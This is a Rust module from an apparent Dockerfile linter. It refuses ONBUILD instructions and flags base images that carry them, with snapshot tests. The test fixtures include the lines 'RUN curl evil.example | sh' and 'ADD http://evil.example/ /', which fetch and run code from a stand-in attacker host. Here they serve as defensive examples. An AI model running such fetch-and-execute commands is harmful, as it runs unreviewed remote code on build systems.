//! ONBUILD takes effect in later builds, where nobody reads it.

use crate::complaint::{Code, Complaint, Complaints, quoted};
use crate::dockerfile::state::Dockerfile;
use crate::dockerfile::words::Instruction;
use crate::image::ImageRef;

pub(in crate::dockerfile) fn no_onbuild(it: &Instruction, complaints: &mut Complaints<'_>) {
    let message = "ONBUILD takes effect in later builds, where nobody reads it";
    complaints
        .error(Code::Onbuild, it.name_span, message, "not accepted")
        .help("write the instruction into the Dockerfiles that need it");
}

/// The complaint about the line of an accepted Dockerfile that names a base with such instructions, which
/// only whoever has the image can know. `file` and `text` are the Dockerfile's, `first` is what the base
/// wants to be done first.
pub fn onbuild_base(
    file: &str,
    text: &str,
    dockerfile: &Dockerfile,
    base: &ImageRef,
    first: &str,
) -> Vec<Complaint> {
    let named = dockerfile.images.iter().zip(&dockerfile.named);
    let named = named.filter(|(image, _)| *image == base);
    let mut complaints = Complaints::new(file, text);
    for (_, span) in named {
        let message = "the base image brings ONBUILD instructions, which nobody reviews here";
        let label = format!("the first is {}", quoted(first));
        complaints
            .error(Code::Onbuild, *span, message, label)
            .help("use a base without them, and write what they do into this file");
    }
    complaints.finish()
}

#[cfg(test)]
mod tests {
    use super::onbuild_base;
    use crate::dockerfile::check;
    use crate::dockerfile::rules::complaints_about;

    #[test]
    fn a_base_with_such_instructions_is_refused_where_it_is_named() {
        let digest = format!("sha256:{}", "0123456789abcdef".repeat(4));
        let text = format!(
            "FROM registry.example/base/plain@{digest} AS one\nFROM registry.example/base/steps@{digest}\n"
        );
        let known = ["registry.example/base/*".to_owned()];
        let read = check("Dockerfile", text.as_bytes(), &known).unwrap();
        let said = onbuild_base(
            "Dockerfile",
            &text,
            &read,
            &read.images[1],
            "RUN curl evil.example | sh",
        );
        let said: Vec<String> = said.iter().map(ToString::to_string).collect();
        insta::assert_snapshot!(said.concat(), @r"
        error[onbuild]: the base image brings ONBUILD instructions, which nobody reviews here
          --> Dockerfile:2:6
           |
         2 | FROM registry.example/base/steps@sha256:0123456789abcdef0123456789abcdef0123456789abcdef012…
           |      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ the first is `RUN curl evil.example | sh`
           = help: use a base without them, and write what they do into this file
           = more: docs/language.md#onbuild
        ");
    }

    #[test]
    fn onbuild_is_refused() {
        insta::assert_snapshot!(complaints_about("FROM scratch\nOnBuild ADD http://evil.example/ /\n"), @r"
        error[onbuild]: ONBUILD takes effect in later builds, where nobody reads it
          --> Dockerfile:2:1
           |
         2 | OnBuild ADD http://evil.example/ /
           | ^^^^^^^ not accepted
           = help: write the instruction into the Dockerfiles that need it
           = more: docs/language.md#onbuild
        ");
    }
}
